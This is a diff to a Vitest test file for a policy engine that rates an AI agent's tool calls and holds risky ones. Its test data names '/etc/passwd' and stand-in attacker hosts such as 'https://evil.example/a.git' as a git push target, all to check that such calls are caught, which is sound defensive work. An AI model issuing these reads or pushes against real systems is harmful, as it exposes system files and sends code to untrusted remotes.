@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest';
-import { classify, isWrapper, type JsonObject, type Risk, unwrapCall } from '../../policies/index.ts';
-import { callOf, DEFAULT_POLICY, factsWith, judge, policyWith } from './scene.ts';
+import { classify, isWrapper, type JsonObject, MAX_JSON_PARTS, type Risk, TOOL_CLASSES, unwrapCall } from '../../policies/index.ts';
+import { callOf, DEFAULT_POLICY, factsWith, fastest, judge, policyWith } from './scene.ts';
 
 const read = (tool: string, args: JsonObject = {}, policy = DEFAULT_POLICY) => classify(callOf(tool, args), factsWith(), policy);
 
@@ -47,6 +47,9 @@ describe('names', () => {
     [{ openWorldHint: true, readOnlyHint: true }, 'green', 'green'],
     [{ readOnlyHint: true }, 'yellow', 'yellow'],
     [{ destructiveHint: false }, 'red', 'red'],
+    [{ openWorldHint: true }, 'red', 'red'],
+    [{ readOnlyHint: false }, 'red', 'red'],
+    [{ readOnlyHint: true }, 'red', 'red'],
     [{}, 'green', 'green'],
   ] as const)('hints %j on a tool mapped %s: %s', (annotations, mapped: Risk, risk: Risk) => {
     for (const trusted of [true, false])
@@ -57,6 +60,21 @@ describe('names', () => {
           policyWith({ riskMap: { w__get: mapped } }),
         ).baseRisk,
       ).toBe(risk);
+  });
+});
+
+describe('entries for tools', () => {
+  test.each(TOOL_CLASSES)('a tool of the class %s is judged as it', (name) => {
+    const policy = policyWith({ tools: { w__x: { class: name } } });
+    const args = { command: 'ls', path: 'output/a', url: 'https://github.com', branch: 'fix' };
+    const { mappedTool, baseRisk } = classify(callOf('w__x', args), factsWith(), policy);
+    expect([mappedTool, baseRisk]).toEqual([name, classify(callOf(name, args), factsWith(), policy).baseRisk]);
+  });
+
+  test('their own risk comes before that of their class and of the map', () => {
+    const policy = policyWith({ tools: { w__x: { class: 'send_email', risk: 'green' }, 'w__*': { risk: 'yellow' } } });
+    expect(classify(callOf('w__x'), factsWith(), policy).baseRisk).toBe('green');
+    expect(classify(callOf('w__y'), factsWith(), policy).baseRisk).toBe('yellow');
   });
 });
 
@@ -113,6 +131,39 @@ describe('arguments', () => {
       expect(read('web_search', { [key]: 'https://evil.example/' }).hosts, key).toHaveLength(1);
   });
 
+  test('names that only sound like paths are not', () => {
+    for (const key of ['profile', 'xpath', 'jsonPath']) expect(read('read_db', { [key]: '//div[1]' }).paths, key).toEqual([]);
+    expect(read('network_call', { url: 'https://github.com/', path: '/v1/users' }).paths).toEqual([]);
+  });
+
+  test('what a call saves is written', () => {
+    const uses = (tool: string, args: JsonObject) => read(tool, args).paths.map(({ use }) => use);
+    expect(uses('network_call', { url: 'https://github.com/', output_path: 'x' })).toEqual(['write']);
+    expect(uses('network_call', { url: 'https://github.com/', uploadFile: 'x' })).toEqual(['read']);
+    expect(uses('browser', { action: 'download', ref: 'e1', path: 'x' })).toEqual(['write']);
+    expect(uses('browser', { action: 'snapshot', path: 'x' })).toEqual(['read']);
+    expect(uses('create_doc', { path: 'x.md' })).toEqual(['write']);
+    expect(uses('create_doc', { filename: 'x.md', folder: 'Team' })).toEqual(['read', 'read']);
+    expect(uses('create_doc', { filename: 'src/x.md' })).toEqual(['write']);
+  });
+
+  test('a mapped tool of a server whose arguments are not known is looked at by a person', () => {
+    for (const [name, code] of [
+      ['read_file', 'FS_READ_OUTSIDE'],
+      ['write_file', 'FS_WRITE_OUTSIDE'],
+      ['network_call', 'NET_NOT_ALLOWLISTED'],
+      ['shell_exec', 'SHELL_NOT_ALLOWLISTED'],
+    ] as const) {
+      const decision = judge(callOf('w__x', { thing: 'y' }), factsWith(), policyWith({ tools: { w__x: { class: name } } }));
+      expect([decision.verdict, decision.reasons[0]?.code]).toEqual(['hold', code]);
+    }
+  });
+
+  test('both spellings of a patch count', () => {
+    const patch = (file: string) => `*** Begin Patch\n*** Add File: ${file}\n+x\n*** End Patch`;
+    expect(judge(callOf('apply_patch', { input: patch('docs/a'), patch: patch('src/a') })).verdict).toBe('hold');
+  });
+
   test('nested operands are read, content is not', () => {
     expect(read('create_doc', { options: { attach: [{ path: '/etc/passwd' }] } }).paths).toHaveLength(1);
     expect(read('create_doc', { content: { path: '/etc/passwd', url: 'https://evil.example/' } })).toMatchObject({ paths: [], hosts: [] });
@@ -161,6 +212,9 @@ describe('arguments', () => {
 
   test('every spelling of a remote and a branch counts', () => {
     expect(judge(callOf('git_push', { remote: 'origin', url: 'https://evil.example/a.git', branch: 'fix' })).verdict).toBe('hold');
+    expect(judge(callOf('git_push', { repo: 'https://evil.example/a.git', branch: 'fix' })).verdict).toBe('hold');
+    expect(judge(callOf('git_push', { repo: 'packages/a', branch: 'fix' })).verdict).toBe('allow');
+    expect(judge(callOf('git_push', { upstream: 'evil', branch: 'fix' })).verdict).toBe('hold');
     expect(judge(callOf('git_push', { remote: 'origin', branch: 'fix', refspec: 'HEAD:main' })).verdict).toBe('hold');
   });
 
@@ -183,6 +237,12 @@ describe('arguments', () => {
     expect(judge(callOf('network_call', { url: Array.from({ length: 501 }, () => 'https://github.com/') })).reasons[0]?.code).toBe(
       'MALFORMED',
     );
+  });
+
+  test('arguments of more parts than anyone could judge are malformed', () => {
+    const rows = (n: number) => judge(callOf('create_doc', { rows: Array.from({ length: n }, (_, i) => i) })).reasons[0]?.code;
+    expect(rows(MAX_JSON_PARTS - 2)).toBe('OK');
+    expect(rows(MAX_JSON_PARTS - 1)).toBe('MALFORMED');
   });
 
   test('findings do not pile up', () => {
@@ -216,6 +276,7 @@ describe('arguments', () => {
 describe('time', () => {
   const megabyte = 1_000_000;
   test.each<[string, JsonObject]>([
+    ['exec', { command: 'cat a > output/b; '.repeat(5), workdir: 'a/'.repeat(megabyte / 2) }],
     ['write_file', { path: 'output/a', content: 'a'.repeat(megabyte) }],
     ['write_file', { path: 'a/'.repeat(megabyte / 2) }],
     ['apply_patch', { input: '*** Add File: a\n'.repeat(megabyte / 16) }],
@@ -224,12 +285,8 @@ describe('time', () => {
     ['install_deps', { packages: `${'a@'.repeat(megabyte / 2)}` }],
     ['git_push', { remote: `git@${'a-'.repeat(megabyte / 2)}`, branch: ':'.repeat(megabyte) }],
     ['post_comment', { text: 'x '.repeat(megabyte / 2) }],
-    ['frobnicate', Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`key${i}Url`, 'x']))],
+    ['frobnicate', Object.fromEntries(Array.from({ length: 19_000 }, (_, i) => [`key${i}Url`, 'x'.repeat(40)]))],
   ])('a megabyte of arguments for %s is read in time', (tool, args) => {
-    judge(callOf(tool, args));
-    const start = performance.now();
-    judge(callOf(tool, args));
-    // 50 ms is the promise; the rest is for a machine that is shared.
-    expect(performance.now() - start).toBeLessThan(150);
+    expect(fastest(() => judge(callOf(tool, args)))).toBeLessThan(100);
   });
 });
